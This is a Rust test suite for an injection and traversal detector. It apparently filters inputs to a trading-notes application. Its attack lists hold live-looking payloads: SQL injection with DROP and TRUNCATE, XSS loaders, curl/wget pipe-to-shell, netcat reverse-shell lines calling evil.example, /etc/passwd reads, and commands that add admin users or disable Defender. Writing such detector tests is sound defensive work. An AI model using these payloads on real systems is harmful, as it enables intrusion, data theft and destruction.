use super::sqli::fingerprint;
use super::*;
use std::time::{Duration, Instant};

fn attack(s: &str) -> bool {
    let a = is_attack(s, Context::Auto);
    assert_eq!(a, check(s, Context::Auto).is_attack, "is_attack and check disagree on {:?}", s);
    a
}

fn assert_attacks(list: &[&str], class: Class) {
    for s in list {
        let v = check(s, Context::Auto);
        assert!(v.is_attack, "not detected: {:?} -> {:?}", s, v.findings.iter().map(|f| f.rule_id).collect::<Vec<_>>());
        assert!(v.classes.contains(&class), "{:?}: expected class {:?}, got {:?}", s, class, v.classes);
        assert!(is_attack(s, Context::Auto));
    }
}

fn assert_benign(list: &[&str], ctx: Context) {
    for s in list {
        let v = check(s, ctx);
        assert!(!v.is_attack, "false alarm in {:?}: {:?} -> {:?}", ctx, s, v.findings.iter().map(|f| (f.rule_id, f.detail.clone())).collect::<Vec<_>>());
        assert!(!is_attack(s, ctx));
    }
}

// ---------------------------------------------------------------- tokenizer

#[test]
fn tokenizer_fingerprints() {
    assert_eq!(fingerprint("1 OR 1=1", None), "1&1=1");
    assert_eq!(fingerprint("1' OR '1'='1", Some(b'\'')), "s&s=s");
    assert_eq!(fingerprint("' UNION SELECT 1,2--", Some(b'\'')), "sUE1,1c");
    assert_eq!(fingerprint("sleep(5)", None), "f(1)");
    assert_eq!(fingerprint("COS (1)", None), "f(1)");
    assert_eq!(fingerprint("Union Pacific", None), "Un");
    assert_eq!(fingerprint("@@version /*x*/ `tbl` N'abc'", None), "vcns");
    assert_eq!(fingerprint("/*!50000union*/ select", None), "cUE");
    assert_eq!(fingerprint("$$body$$ ::text", None), "son");
    assert_eq!(fingerprint("a <> b <=> c != d", None), "n=n=n=n");
    assert_eq!(fingerprint("x && y || z", None), "n&n&n");
    assert_eq!(fingerprint("0x41 1.5e3 .5", None), "111");
    // unterminated string and comment never panic and consume the rest
    assert_eq!(fingerprint("'abc", None), "s");
    assert_eq!(fingerprint("/* abc", None), "c");
    assert_eq!(fingerprint("", Some(b'"')), "s");
}

// ---------------------------------------------------------------- SQL injection

#[test]
fn sqli_attacks() {
    assert_attacks(
        &[
            "1' OR '1'='1",
            "1;WAITFOR DELAY '0:0:5'--",
            "' UNION SELECT username, password FROM users--",
            "1 UNION ALL SELECT NULL,NULL,NULL--",
            "-1 union/**/select/**/1,2,version()",
            "1; DROP TABLE users",
            "'; DROP TABLE users; --",
            "1; exec master..xp_cmdshell 'dir'",
            "1'; INSERT INTO admins VALUES ('x','y');--",
            "1 AND sleep(5)",
            "1' AND SLEEP(5) AND '1'='1",
            "1) OR pg_sleep(5)--",
            "'||pg_sleep(10)--",
            "1 AND benchmark(5000000,md5(1))",
            "1 AND 1=dbms_pipe.receive_message('a',10)",
            "' or 1=1--",
            "admin'--",
            "admin' #",
            "\" or \"\"=\"",
            "') or ('a'='a",
            "1 AND ascii(substring((SELECT password FROM users LIMIT 1),1,1))>64",
            "1 AND 1=1",
            "1 AND 8=3",
            "1 OR 2-1=1",
            "1 ORDER BY 5--",
            "1' ORDER BY 3--",
            "/*!50000union*/ /*!50000select*/ 1,2",
            "1 /*!UNION*/ SELECT `password` FROM `users`",
            "' AND extractvalue(1,concat(0x7e,version()))--",
            "1' AND 1=CONVERT(int,@@version)--",
            "1; SELECT pg_read_file('/etc/passwd')",
            "' || (SELECT banner FROM v$version WHERE rownum=1) || '",
            "1' AND 1=utl_inaddr.get_host_address((SELECT user FROM dual))--",
            "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0",
            "x' AND 1=(SELECT 1 FROM pg_sleep(5))--",
            "1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)#",
            "' INTO OUTFILE '/var/www/shell.php'--",
            "%27%20OR%201%3D1--",
            "%2527%2520UNION%2520SELECT%25201%252C2--",
            "&#39; OR 1=1 --",
            "1\u{0}UNION\u{0}SELECT 1,2",
            "SELECT * FROM users WHERE id=1",
        ],
        Class::Sqli,
    );
}

#[test]
fn sqli_benign() {
    assert_benign(
        &[
            "Union Pacific",
            "select the best performers, drop the laggards",
            "O'Reilly",
            "Let's meet at 5 -- maybe 6",
            "DROP the Q3 position -- risky",
            "It's a 'buy' signal, isn't it?",
            "Limit order: price <= 152.30 and volume >= 1000",
            "5 > 3 and 2 < 4",
            "1 OR 2 contracts, depending on margin",
            "Ratio 1=1 is not a valid hedge ratio",
            "Sell 50 AAPL at market -- earnings drop expected",
            "Update: rebalanced portfolio; deleted stale watchlist",
            "Insert date: 2025-08-18",
            "Sleep well: positions hedged",
            "Benchmark: TOPIX vs Nikkei 225",
            "100% cash -- waiting for a pullback",
            "along with this program; if not, write to the Free Software Foundation",
            "necklace length 16\" or 18\"",
            "Jones' or Smith's book",
        ],
        Context::Auto,
    );
}

/// PostgreSQL statements after a quote breakout or a `;` (found by an attack review), and the
/// trading notes with the same words that must stay benign.
#[test]
fn sqli_postgres_statements() {
    assert_attacks(
        &[
            "x'; TRUNCATE users--",
            "1; TRUNCATE users",
            "x'); TRUNCATE users--",
            "x'; TRUNCATE ONLY users CASCADE--",
            "x'; SET ROLE postgres--",
            "x'; SET SESSION AUTHORIZATION postgres--",
            "x'; RESET ROLE--",
            "x'; ALTER SYSTEM SET fsync=off--",
            "x'; LOAD '/tmp/evil.so'--",
            "x'; DROP OWNED BY app--",
            "x'; REASSIGN OWNED BY app TO evil--",
            "x'; VACUUM FULL--",
            "x'; CLUSTER users--",
            "x'; DISCARD ALL--",
            "x'; PREPARE p AS SELECT 1--",
            "x'; IMPORT FOREIGN SCHEMA a FROM SERVER s INTO b--",
        ],
        Class::Sqli,
    );
    // Padding past the tokenizer's cap does not hide what follows it.
    let padded = format!("{}1 AND pg_sleep(5) IS NULL", ",".repeat(201_000));
    assert!(attack(&padded));
    assert_benign(
        &[
            "truncate the position at the close",
            "reset the stop after earnings",
            "vacuum cleaner maker, long",
            "cluster of buy orders near 150",
            "import tariffs may hit autos",
            "load the order book before the open",
            "set role: risk desk",
            "discard the stale quotes",
        ],
        Context::Auto,
    );
}

// ---------------------------------------------------------------- XSS

#[test]
fn xss_attacks() {
    assert_attacks(
        &[
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js></script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "<a href=\"java\tscript:alert(1)\">x</a>",
            "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
            "<embed src=x>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<base href=\"//evil.example/\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "<link rel=stylesheet href=\"javascript:alert(1)\">",
            "<div style=\"width: expression(alert(1))\">",
            "<form action=\"javascript:alert(1)\"><button>x</button></form>",
            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
            "\" onmouseover=\"alert(1)",
            "' autofocus onfocus='alert(document.cookie)",
            "';alert(1)//",
            "\";alert(String.fromCharCode(88,83,83));//",
            "</script><script>alert(1)</script>",
            "javascript:alert(document.domain)",
            "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "&lt;img src=x onerror=alert(1)&gt;",
            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "{{constructor.constructor('alert(1)')()}}",
        ],
        Class::Xss,
    );
}

#[test]
fn xss_benign() {
    assert_benign(
        &[
            "<b>bold</b> in a research note is plain formatting",
            "5 > 3 and 2 < 4",
            "Alert: price crossed 50-day MA",
            "Alert(s) pending",
            "online order; onset of the rally",
            "JavaScript developers wanted",
            "x < y > z",
        ],
        Context::Auto,
    );
}

// ---------------------------------------------------------------- command injection

#[test]
fn cmdi_attacks() {
    assert_attacks(
        &[
            "; cat /etc/passwd",
            "| id",
            "|| whoami",
            "&& ls -la",
            "& ping -n 5 127.0.0.1",
            "127.0.0.1; uname -a",
            "x\nwhoami",
            "x%0aid",
            "$(whoami)",
            "`id`",
            "a;cat${IFS}/etc/passwd",
            "a;cat$IFS$9/etc/passwd",
            "| net user",
            "& type C:\\Windows\\win.ini",
            "& dir c:\\",
            "; sleep 5",
            "() { :;}; /bin/bash -c 'id'",
            "; curl http://evil.example/x.sh | sh",
            "\"; nc -e /bin/sh 10.0.0.1 4444",
        ],
        Class::Cmdi,
    );
}

#[test]
fn cmdi_benign() {
    assert_benign(
        &[
            "AT&T Inc.",
            "Procter & Gamble",
            "Johnson & Johnson",
            "echo of the morning rally faded by noon",
            "cat bond exposure reduced",
            "Buy 100 shares of 7203.T @ 2,845; stop at 2,800",
            "Waited for the 2:30 fill; then cancelled the rest",
            "$1,000 notional",
            "IOC | FOK",
            "Net user growth was strong",
            "type: limit; time in force: day",
        ],
        Context::Auto,
    );
}

// ---------------------------------------------------------------- traversal

#[test]
fn traversal_attacks() {
    assert_attacks(
        &[
            "../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "..%c0%af..%c0%afetc/passwd",
            "%252e%252e%252fetc%252fpasswd",
            "....//....//etc/passwd",
            "..%u2216..%u2216windows",
            "/etc/shadow",
            "/proc/self/environ",
            "C:\\Windows\\win.ini",
            "C:\\boot.ini",
            "file.php%00.jpg",
            "../../../../etc/hosts%00",
        ],
        Class::Traversal,
    );
}

#[test]
fn traversal_benign() {
    assert_benign(
        &["reports/2026/q3.pdf", "Path of export: reports/2025/08/pnl.csv", "C:\\Users\\trader\\Documents\\pnl.xlsx", "1/2 of the order", "Wait... then buy"],
        Context::Auto,
    );
}

// ---------------------------------------------------------------- decoding

#[test]
fn decoding_is_recorded() {
    let v = check("%3Cscript%3Ealert(1)%3C%2Fscript%3E", Context::Auto);
    let f = v.findings.iter().find(|f| f.rule_id == "xss.script_tag").unwrap();
    assert!(f.decoding.contains(&"url"), "{:?}", f.decoding);
    // offset/length refer to the decoded text "<script>alert(1)</script>"
    assert_eq!(f.offset, 0);

    let v = check("&#x3C;SCRIPT&#x3E;alert(1)", Context::Auto);
    let f = v.findings.iter().find(|f| f.rule_id == "xss.script_tag").unwrap();
    assert!(f.decoding.contains(&"html_entity") && f.decoding.contains(&"lowercase"), "{:?}", f.decoding);

    let v = check("%252e%252e%252f%252e%252e%252fetc%252fpasswd", Context::Auto);
    let f = v.findings.iter().find(|f| f.class == Class::Traversal).unwrap();
    assert!(f.decoding.contains(&"url") && f.decoding.contains(&"url_repeat"), "{:?}", f.decoding);

    let v = check("file.php%00.jpg", Context::Auto);
    assert!(v.findings.iter().any(|f| f.rule_id == "traversal.nul_terminated" && f.decoding.contains(&"nul")));

    // '+' is a space only in url context or when other % escapes are present
    assert!(attack("1+UNION+SELECT+1,2%2C3"));
    assert!(is_attack("1+UNION+SELECT+1,2", Context::Url));
    assert!(!is_attack("+81-3-1234-5678", Context::Auto));
}

#[test]
fn offsets_point_into_decoded_text() {
    let input = "note: x' UNION SELECT 1,2--";
    let v = check(input, Context::Auto);
    let f = v.findings.iter().find(|f| f.rule_id == "sqli.union_select").unwrap();
    assert!(input[f.offset..].to_ascii_lowercase().starts_with("union"), "{:?}", f);
    assert!(f.detail.len() <= 100);
}

// ---------------------------------------------------------------- contexts

#[test]
fn contexts() {
    assert_eq!(Context::parse("auto"), Some(Context::Auto));
    assert_eq!(Context::parse("identifier"), Some(Context::Identifier));
    assert_eq!(Context::parse("free_text"), Some(Context::FreeText));
    assert_eq!(Context::parse("url"), Some(Context::Url));
    assert_eq!(Context::parse("path"), Some(Context::Path));
    assert_eq!(Context::parse("nope"), None);

    // identifier: strict
    for s in ["ACC-001", "user@example.com", "BRK.B", "7203.T", "desk/fx:tokyo", "trader_01", "ISIN US0378331005"] {
        assert!(!is_attack(s, Context::Identifier), "{}", s);
    }
    for s in ["ACC-001'", "abc;def", "a<b", "x|y", "id=1", "a--b", "x\\y", "x\u{0}y"] {
        assert!(is_attack(s, Context::Identifier), "{}", s);
    }
    // free text: tolerant, only clear attacks
    for s in ["O'Reilly says: ls -la is a command", "Use <b> for bold", "onload", "1--", "information_schema is a schema"] {
        assert!(!is_attack(s, Context::FreeText), "{}", s);
    }
    for s in ["' OR 1=1--", "<script>alert(1)</script>", "; cat /etc/passwd", "../../etc/passwd"] {
        assert!(is_attack(s, Context::FreeText), "{}", s);
    }
    // path: traversal focus
    assert!(is_attack("reports/../../secret", Context::Path));
    assert!(is_attack("report.pdf\u{0}.jpg", Context::Path));
    assert!(!is_attack("reports/2026/q3.pdf", Context::Path));
    // url
    assert!(is_attack("https://example.com/?q=%3Cscript%3Ealert(1)%3C/script%3E", Context::Url));
    assert!(!is_attack("https://example.com/research?id=42&lang=ja", Context::Url));
}

#[test]
fn class_names_rules_and_json() {
    assert_eq!(Class::Sqli.as_str(), "sqli");
    assert_eq!(Class::Xss.as_str(), "xss");
    assert_eq!(Class::Cmdi.as_str(), "cmdi");
    assert_eq!(Class::Traversal.as_str(), "traversal");
    let ids: Vec<&str> = rules().iter().map(|r| r.id).collect();
    let mut d = ids.clone();
    d.sort();
    d.dedup();
    assert_eq!(d.len(), ids.len(), "duplicate rule ids");
    for r in rules() {
        assert!(r.id.starts_with(r.class.as_str()) || r.id.starts_with("identifier."), "{}", r.id);
        assert!(!r.description.is_empty());
    }
    let v = check("1' UNION SELECT 1,2--<script>alert(1)</script>", Context::Auto);
    assert!(v.is_attack && v.score >= 90);
    assert_eq!(v.classes, vec![Class::Sqli, Class::Xss]);
    let j = v.findings_json();
    let arr = j.as_array().unwrap();
    assert_eq!(arr.len(), v.findings.len());
    for f in arr {
        for k in ["class", "rule_id", "offset", "length", "decoding", "detail"] {
            assert!(f.get(k).is_some(), "missing {} in {}", k, f);
        }
    }
    // every emitted rule id is documented
    for s in ["' or 1=1--", "<img src=x onerror=alert(1)>", "; id", "../../etc/passwd", "x'; waitfor delay '0:0:5'--", "%3C", "<"] {
        for f in check(s, Context::Auto).findings {
            assert!(ids.contains(&f.rule_id), "undocumented rule {}", f.rule_id);
        }
    }
    let b = check("AAPL", Context::Auto);
    assert!(!b.is_attack && b.score == 0 && b.findings.is_empty() && b.classes.is_empty());
    assert_eq!(b.findings_json(), serde_json::json!([]));
    assert!(!RULESET_VERSION.is_empty());
}

// ---------------------------------------------------------------- robustness

struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}

#[test]
fn no_panic_on_random_and_mutated_input() {
    let mut r = Rng(0x9E37_79B9_7F4A_7C15);
    let seeds = [
        "1' OR '1'='1", "<svg/onload=alert(1)>", "; cat /etc/passwd", "..%c0%af../etc/passwd", "&#x6A;avascript:", "%u2216", "\\u00", "%%32%65",
        "/*!", "$$", "@@", "`", "\"", "&#", "%", "\\x", "\\", "%c0", "{{", "${", "(((", "日本語'",
    ];
    let alphabet: &[u8] = b"'\"`;|&$()<>/\\%.-#*=!@{}[]:, \t\n\x00aZ09xu+~^";
    for i in 0..30_000 {
        let len = (r.next() % 64) as usize;
        let s: String = if i % 3 == 0 {
            // random bytes, lossily made UTF-8
            let b: Vec<u8> = (0..len).map(|_| r.next() as u8).collect();
            String::from_utf8_lossy(&b).into_owned()
        } else if i % 3 == 1 {
            (0..len).map(|_| alphabet[(r.next() % alphabet.len() as u64) as usize] as char).collect()
        } else {
            let mut s = seeds[(r.next() % seeds.len() as u64) as usize].to_string();
            for _ in 0..(r.next() % 4) {
                let pos = (r.next() as usize) % (s.len() + 1);
                let mut p = pos;
                while !s.is_char_boundary(p) {
                    p -= 1;
                }
                let c = alphabet[(r.next() % alphabet.len() as u64) as usize] as char;
                s.insert(p, c);
            }
            s
        };
        for ctx in [Context::Auto, Context::Identifier, Context::FreeText, Context::Url, Context::Path] {
            let v = check(&s, ctx);
            assert_eq!(v.is_attack, is_attack(&s, ctx), "{:?} {:?}", s, ctx);
            assert!(v.score <= 100);
            for f in &v.findings {
                assert!(f.length <= 64, "{:?}", f);
                assert!(f.detail.chars().count() <= 100);
            }
            let _ = v.findings_json();
        }
    }
}

#[test]
fn large_inputs_are_linear() {
    let mb = 1 << 20;
    let inputs: Vec<String> = vec![
        "a".repeat(mb),
        "'".repeat(mb),
        "\"'".repeat(mb / 2),
        "<".repeat(mb),
        "(".repeat(mb),
        "%25".repeat(mb / 3),
        "%2e%2e%2f".repeat(mb / 9),
        "&#".repeat(mb / 2),
        "&#x3c;".repeat(mb / 6),
        "../".repeat(mb / 3),
        "1 or 1=1 ".repeat(mb / 9),
        "' union select 1,2-- ".repeat(mb / 21),
        "<a onclick=".repeat(mb / 11),
        "; ls ".repeat(mb / 5),
        "/*".repeat(mb / 2),
        "\\u00".repeat(mb / 4),
        "日本語のテキスト ".repeat(mb / 25),
        "select ".repeat(mb / 7),
        "1,".repeat(mb / 2),
    ];
    for s in &inputs {
        let t = Instant::now();
        let _ = check(s, Context::Auto);
        let _ = is_attack(s, Context::Identifier);
        let el = t.elapsed();
        // generous bound: catches super-linear behaviour, not a micro-benchmark
        assert!(el < Duration::from_secs(if cfg!(debug_assertions) { 20 } else { 1 }), "{:?} took {:?}", &s[..20.min(s.len())], el);
    }
}

#[test]
fn more_attacks_by_class() {
    assert_attacks(
        &[
            "1 AND 1=1 -- -",
            "1' AND '1'='2",
            "' OR 'x'='x' /*",
            "1 OR 1=1 LIMIT 1",
            "x' OR 1=1 OR 'x'='y",
            "1' OR 1=1#",
            "1\" OR \"1\"=\"1",
            "1') AND ('1'='1",
            "1)) OR ((1=1",
            "admin'/*",
            "' or ''='",
            "1' UNION SELECT NULL,table_name FROM information_schema.tables--",
            "' UNION ALL SELECT @@version,NULL#",
            "1' ORDER BY 10-- -",
            "1 GROUP BY 1,2,3 HAVING 1=1",
            "1'; SELECT pg_sleep(5)--",
            "1; SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--",
            "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -",
            "1' WAITFOR DELAY '0:0:10'--",
            "'; EXEC xp_cmdshell('whoami')--",
            "1 AND (SELECT SUBSTRING(password,1,1) FROM users WHERE username='admin')='a'",
            "1' AND ASCII(SUBSTR((SELECT user FROM dual),1,1))>64--",
            "' AND 1=CAST((SELECT version()) AS int)--",
            "1 AND updatexml(1,concat(0x7e,(SELECT user())),1)",
            "' OR EXISTS(SELECT * FROM users)--",
            "1; UPDATE users SET role='admin' WHERE id=1--",
            "'; DELETE FROM orders; --",
            "1; TRUNCATE TABLE audit_log",
            "1'||(SELECT CHR(65)||CHR(66) FROM dual)||'",
            "'+(SELECT TOP 1 name FROM sysobjects)+'",
            "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
            "-1' UNION SELECT 1,LOAD_FILE('/etc/passwd'),3-- -",
            "1; COPY (SELECT '') TO PROGRAM 'id'--",
            "1 AND 1=(SELECT COUNT(*) FROM pg_catalog.pg_tables)",
            "' OR 1 IN (SELECT @@version)--",
            "1%27%20OR%20%271%27%3D%271",
            "1'/**/OR/**/'1'='1",
            "1'%09or%091=1--",
            "' oR 1=1 ;--",
        ],
        Class::Sqli,
    );
    assert_attacks(
        &[
            "<body onload=alert(1)>",
            "<img src=1 onerror=prompt(document.domain)>",
            "<details open ontoggle=alert(1)>",
            "<video><source onerror=\"alert(1)\">",
            "<svg><script>alert&#40;1&#41;</script>",
            "<a href=\"javascript&colon;alert(1)\">click</a>",
            "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
            "\"><img src=x onerror=alert(1)>",
            "'><svg onload=alert(1)>",
            "</title><script>alert(1)</script>",
            "<input autofocus onfocus=alert(1)>",
            "<marquee onstart=alert(1)>",
            "<object data=\"javascript:alert(1)\">",
            "<isindex action=javascript:alert(1) type=submit>",
            "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
            "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
            "<style>@import 'http://evil.example/x.css';</style>",
            "<img src=x:alert(alt) onerror=eval(src) alt=0>",
            "\"-alert(1)-\"",
            "\\\";alert(1);//",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<IMG SRC=JaVaScRiPt:alert('XSS')>",
            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        ],
        Class::Xss,
    );
    assert_attacks(
        &[
            ";ls -la",
            "| cat /etc/passwd",
            "`cat /etc/passwd`",
            "$(cat /etc/passwd)",
            "; ping -c 10 127.0.0.1",
            "& whoami &",
            "|| uname -a",
            "%0Acat%20/etc/passwd",
            ";curl${IFS}http://evil.example/x|sh",
            "a && wget http://evil.example/s.sh -O /tmp/s.sh",
            "127.0.0.1 | nslookup evil.example",
            "& net localgroup administrators",
            "| powershell -enc AAAA",
            "; /bin/sh -i",
            ";echo${IFS}pwned",
            "x'; id; echo '",
            "`sleep 10`",
            "& timeout /t 5",
        ],
        Class::Cmdi,
    );
    assert_attacks(
        &[
            "../../../../../../etc/passwd",
            "..%2F..%2F..%2Fetc%2Fpasswd",
            "%2e%2e%5c%2e%2e%5cwindows%5cwin.ini",
            "....\\\\....\\\\windows\\\\win.ini",
            "/var/www/../../etc/shadow",
            "..%252f..%252f..%252fetc%252fpasswd",
            "file:///etc/passwd",
            "/proc/self/cmdline",
            "..\\\\..\\\\..\\\\..\\\\boot.ini",
            "image.png%00.php",
            "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
            "C:/Windows/System32/drivers/etc/hosts",
        ],
        Class::Traversal,
    );
}

#[test]
fn boolean_blind_probes_with_ordered_comparisons() {
    // Right after a lone number (a numeric context broken out of): a constant comparison.
    assert_attacks(&["-1 and 1>1", "1 or 2>1", "7 AND 3<=2", "1 and 1 > 0"], Class::Sqli);
    // Comparisons in a note are not.
    assert_benign(&["5 > 3 and 2 < 4", "size 2 and 3>1", "buy 1 lot, and 2>1 ratio"], Context::Auto);
}

#[test]
fn names_that_start_with_digits_are_one_word() {
    // MySQL allows `2on2hockeyDB` as a table name: not the number 2 and the keyword ON.
    assert_attacks(&["9999 or 1 group by concat((select email from 2on2hockeyDB limit 0,1),rand(0)|0) having min(0)--"], Class::Sqli);
    assert_benign(&["3x2 lots at 101", "2nd fill at 101.5"], Context::Auto);
}

#[test]
fn us_ascii_high_bit_markup_is_decoded() {
    assert_attacks(&["¼script¾alert(¢XSS¢)¼/script¾", "¼img src=x onerror=alert(1)¾"], Class::Xss);
    // Fractions in a note are not markup.
    assert_benign(&["sold ¼ of the position, ¾ left", "bought at 101¾, trimmed ¼", "¼ lot; ¾ lot (ok)"], Context::Auto);
}

#[test]
fn look_alike_punctuation_alone_is_folded() {
    // Values whose only "special" characters are look-alikes took the plain fast path before.
    for s in ["\u{FF0E}\u{FF0E}\u{FF0F}\u{FF0E}\u{FF0E}\u{FF0F}secret", "\u{2215}etc\u{2215}passwd", "\u{2024}\u{2024}/\u{2024}\u{2024}/x"] {
        assert!(attack(s), "{s}");
        assert_eq!(is_attack(s, Context::Auto), check(s, Context::Auto).is_attack, "{s}");
    }
    // CJK angle brackets are Japanese punctuation, not markup.
    for s in ["〈重要〉 決算前に確認", "〈重要〉 決算前に確認;", "ＡＢＣ（株）の注文、１００株", "1／2 を売却"] {
        assert!(!attack(s), "{s}");
    }
}

/// Trading notes with separators and command-like words (found by a review): benign.
#[test]
fn trading_notes_with_separators_are_benign() {
    assert_benign(
        &[
            "take profit & exit",
            "find me a better entry & exit",
            "buy 10; set stop 9",
            "note; time 10:00",
            "drop the laggards; select winners",
            "union pacific; select comfort",
            "sleep(8h) before the open",
            "Too noisy; discard all signals",
            "Stopped out; reset all alerts",
            "Scaled in; truncate position",
            "Truncate position",
            "risk off; vacuum, then rebuy",
            "ID 7; ps 3",
            "fill 2 of 3; ls 100",
            "ticket 12 | id 7",
        ],
        Context::Auto,
    );
    // A long list without SQL punctuation is not reported for its length alone.
    assert!(!attack(&"1 ".repeat(210_000)));
    // The attacks next to them still count.
    assert_attacks(&["x; sc stop WinDefend", "net localgroup Administrators hacker /ADD", "8.8.8.8 & set"], Class::Cmdi);
    // The same words with a shell argument, or a number followed by more, still count.
    assert_attacks(&["ID 7; ps aux", "ID 7; ps -ef", "x; id", "1; cat 3 /etc/passwd", "a | ps 1; whoami"], Class::Cmdi);
    // A command whose argument ends in the next separator and command (a terminal escape
    // hiding the line): the next one is still read.
    assert_attacks(&["\\necho X\\nexit\\n\\033[2Awget https://example.com/rce.txt\\n", "ok\nexit\nsleep 5"], Class::Cmdi);
    // Windows command lines as the whole value: a subcommand with a switch, a registry change.
    assert_attacks(
        &[
            "net user hacker Password1 /ADD",
            "net user admin /delete",
            "reg add \"HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f",
            "reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d c:\\x.exe /f",
            "x; ls .",
            "x | dir .",
        ],
        Class::Cmdi,
    );
    // ... but not the same words in a note.
    assert_benign(
        &["net user count up 5%", "net view: long 1/2 size", "reg add-on approved", "reg add-on approved (Q3)", "sc stop-loss hit", "reg add 5 lots", "sc query 5 lots", "sc delete old orders", "reg save 2 lots", "reg add HKD 5 lots", "reg add é5 lots"],
        Context::Auto,
    );
    assert_attacks(&["reg query HKLM\\Software\\Microsoft", "sc config WinDefend start= disabled /y", "reg add HKCU\\Run /f"], Class::Cmdi);
    assert_attacks(&["1; select pg_sleep(5)", "1 AND sleep(5)"], Class::Sqli);
}

#[test]
fn identifier_and_dollar_quote_breakouts() {
    // A value placed inside a MySQL identifier (`...`) or a PostgreSQL dollar-quoted string
    // ($$...$$) that closes it and goes on as SQL (sqlmap's boundaries for those contexts).
    assert_attacks(
        &[
            "1` WHERE 1763=3181 AND 5744=7867 -- -",
            "1`=`1` AND !SLEEP(5) AND `1`=`1",
            "1` WHERE 9135=7761 ;WAITFOR DELAY '0:0:5' -- -",
            "1$$ AND 1608=DBMS_PIPE.RECEIVE_MESSAGE('FKGn',5)--",
            "1$$ ;SELECT pg_sleep(5)--",
            "x$$ OR 1=1 --",
        ],
        Class::Sqli,
    );
    // Backticks around names in a note and dollar amounts are not a breakout.
    assert_benign(
        &[
            "see the `orders` table; fills are in `executions`",
            "ran `make test` and it passed",
            "$$ saved on fees, 1 or 2 lots",
            "bought $$$ of AAPL and sold 1 lot",
            "price moved $5 and then $$",
        ],
        Context::Auto,
    );
    // Each context names itself in the finding.
    let v = check("1` WHERE 1763=3181 AND 5744=7867 -- -", Context::Auto);
    assert!(v.findings.iter().any(|f| f.detail.contains("ctx=bq")), "{:?}", v.findings);
    let v = check("1$$ ;SELECT pg_sleep(5)--", Context::Auto);
    assert!(v.findings.iter().any(|f| f.detail.contains("ctx=dollar")), "{:?}", v.findings);
}

#[test]
fn form_encoded_plus_is_read_as_space() {
    // XSStrike's fillings: `+` is the form encoding of a space, with no percent escape.
    assert_attacks(&["<a/+/oNMousEOver+=+a=prompt,a()>v3dm0s", "\"><dETaILs/+/oNToggLe+=+a=prompt,a()//"], Class::Xss);
    // Plus signs in ordinary values stay plus signs.
    assert_benign(&["C++/Rust", "+81-3-1234-5678", "AAPL+MSFT", "1+1=2", "(+5%)", "a+b=c"], Context::Auto);
}

#[test]
fn sqlmap_clause_and_table_function_payloads() {
    assert_attacks(
        &[
            "(SELECT * FROM GENERATE_SERIES(4230,7401,CASE WHEN (7635=4336) THEN 1 ELSE 0 END) LIMIT 1)",
            "*/ (SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000)) /*",
            "-5977) WHERE 3096=5125 OR CASE WHEN 9654=8166 THEN 2837 ELSE JSON('getH') END -- -",
            "1') WHERE 3289=8327 HAVING 2589=7309 -- -",
            "7) HAVING 1=1",
        ],
        Class::Sqli,
    );
    assert_benign(
        &[
            "Step 3) where to put the stop: below 2,750",
            "1) where the fill came from (desk or algo)",
            "(2) having checked the book, hold",
            "pick one from list(3) where possible",
            "select from series(A) or series(B)",
            "'buy' where the spread is < 0.02",
        ],
        Context::Auto,
    );
}

#[test]
fn commix_style_probes() {
    assert_attacks(
        &[
            ";id#",
            "1|id#",
            "test&&whoami%23",
            "'&sleep+5\"",
            "'||uname+-a",
            "`sleep+5`",
            "`ping+-c+5+127.0.0.1`",
            ";str=$(echo ABCDE);str1=${#str};if [ 5 -ne ${str1} ];then sleep 0;else sleep 5;fi",
            "`echo+QWERTY$((12+34))$(echo+QWERTY)QWERTY`",
            "echo QWERTY$((12+34))QWERTY",
        ],
        Class::Cmdi,
    );
    assert_benign(
        &[
            "ID 7; id #7 cancelled",
            "AAPL+MSFT;GOOG",
            "R&D+capex; see note",
            "then sleep on it; decide tomorrow",
            "profit $((maybe)) later",
            "C++;Rust",
        ],
        Context::Auto,
    );
}

#[test]
fn changelog_prose_is_not_an_attack() {
    // Lines of Debian changelogs (other benign text than the corpus), each once a false alarm.
    assert_benign(
        &[
            "Provide standalone binaries for sysusers and tmpfiles (Closes: #946456)",
            "Add a '+' in the version (as the old upload is high than the one without)",
            "Bump Standards-Version to 3.8.3 (README.source added).",
            "Restored the DefaultSecDispatcher default constructor (removed in 2.0)",
            "Reinstate the $(CROSS) variable in the call to $(MAKE)",
            "We don't need to use $(strip), just avoid having whitespace in the first",
        ],
        Context::Auto,
    );
    // What those rules are for still counts.
